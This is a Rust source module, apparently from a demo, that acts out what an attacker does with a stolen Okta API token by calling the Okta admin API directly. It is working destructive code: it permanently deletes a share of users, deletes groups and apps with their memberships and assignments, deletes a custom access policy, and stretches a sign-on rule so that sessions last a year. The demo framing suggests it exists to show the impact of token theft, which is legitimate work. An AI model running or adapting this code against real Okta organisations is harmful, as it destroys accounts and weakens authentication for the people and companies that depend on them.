//! What a thief does with a stolen Okta API token: goes round the gateway, straight to the org, and destroys what can be destroyed.

use super::visitor::Visitor;
use crate::failure::Failure;
use http::Method;
use serde_json::{Value, json};

/// What the thief did, in words for the story.
pub(crate) struct Damage {
    /// Calls made.
    pub calls: u64,
    /// One line per kind of damage.
    pub told: Vec<String>,
}

/// Deletes users, groups, apps, an access policy and a group rule; loosens a sign-on rule.
pub(crate) async fn wreck(thief: &Visitor) -> Result<Damage, Failure> {
    let mut raid = Raid { thief, calls: 0 };
    let users = raid.users().await?;
    let groups = raid.groups().await?;
    let apps = raid.apps().await?;
    let policies = raid.access_policies().await?;
    let rules = raid.loosen_sign_on().await?;
    let told = vec![
        format!("{users} users deleted for good"),
        format!("{groups} groups deleted, with all their memberships"),
        format!("{apps} apps deleted, with all their assignments"),
        format!("{policies} access policy deleted; its apps fell back to the default one"),
        format!("{rules} sign-on rule loosened: sessions live for a year"),
    ];
    Ok(Damage {
        calls: raid.calls,
        told,
    })
}

struct Raid<'a> {
    thief: &'a Visitor,
    calls: u64,
}

impl Raid<'_> {
    /// Every fourth user: the first DELETE deactivates, the second one deletes.
    async fn users(&mut self) -> Result<usize, Failure> {
        let me = self
            .thief
            .call(Method::GET, "/api/v1/users/me", None)
            .await?
            .body;
        let users = self.thief.list("/api/v1/users?limit=200").await?;
        // A token dies with its owner, so the thief spares that one.
        let chosen: Vec<&Value> = users
            .iter()
            .filter(|user| id(user) != id(&me))
            .step_by(4)
            .collect();
        for user in &chosen {
            for _ in ["deactivate", "delete"] {
                self.send(Method::DELETE, &format!("/api/v1/users/{}", id(user)), None)
                    .await?;
            }
        }
        Ok(chosen.len())
    }

    async fn groups(&mut self) -> Result<usize, Failure> {
        let groups = self.thief.list("/api/v1/groups?limit=200").await?;
        let own: Vec<&Value> = groups
            .iter()
            .filter(|group| group["type"] == "OKTA_GROUP")
            .step_by(3)
            .collect();
        for group in &own {
            self.send(
                Method::DELETE,
                &format!("/api/v1/groups/{}", id(group)),
                None,
            )
            .await?;
        }
        Ok(own.len())
    }

    async fn apps(&mut self) -> Result<usize, Failure> {
        let apps = self.thief.list("/api/v1/apps?limit=200").await?;
        let own = apps.iter().filter(|app| {
            app["label"]
                .as_str()
                .is_some_and(|label| label.ends_with(char::is_numeric))
        });
        let chosen: Vec<&Value> = own.step_by(2).collect();
        for app in &chosen {
            let path = format!("/api/v1/apps/{}", id(app));
            self.send(Method::POST, &format!("{path}/lifecycle/deactivate"), None)
                .await?;
            self.send(Method::DELETE, &path, None).await?;
        }
        Ok(chosen.len())
    }

    async fn access_policies(&mut self) -> Result<usize, Failure> {
        let policies = self
            .thief
            .list("/api/v1/policies?type=ACCESS_POLICY")
            .await?;
        let Some(policy) = policies.iter().find(|policy| policy["system"] == false) else {
            return Ok(0);
        };
        self.send(
            Method::DELETE,
            &format!("/api/v1/policies/{}", id(policy)),
            None,
        )
        .await?;
        Ok(1)
    }

    async fn loosen_sign_on(&mut self) -> Result<usize, Failure> {
        let policies = self
            .thief
            .list("/api/v1/policies?type=OKTA_SIGN_ON")
            .await?;
        let Some(policy) = policies.iter().find(|policy| policy["system"] == false) else {
            return Ok(0);
        };
        let path = format!("/api/v1/policies/{}/rules", id(policy));
        let rules = self.thief.list(&path).await?;
        let Some(mut rule) = rules.into_iter().find(|rule| rule["system"] == false) else {
            return Ok(0);
        };
        let path = format!("{path}/{}", id(&rule));
        if let Some(session) = rule.pointer_mut("/actions/signon/session") {
            session["maxSessionLifetimeMinutes"] = json!(YEAR_MINUTES);
        }
        self.send(Method::PUT, &path, Some(&rule)).await?;
        Ok(1)
    }

    async fn send(
        &mut self,
        method: Method,
        path: &str,
        body: Option<&Value>,
    ) -> Result<(), Failure> {
        self.calls += 1;
        let heard = self.thief.call(method.clone(), path, body).await?;
        if heard.status.is_success() {
            return Ok(());
        }
        Err(Failure::broken(format!(
            "the demo's attack was answered {} at {method} {path}: {}",
            heard.status, heard.body
        )))
    }
}

fn id(object: &Value) -> &str {
    object.get("id").and_then(Value::as_str).unwrap_or_default()
}

const YEAR_MINUTES: u32 = 365 * 24 * 60;
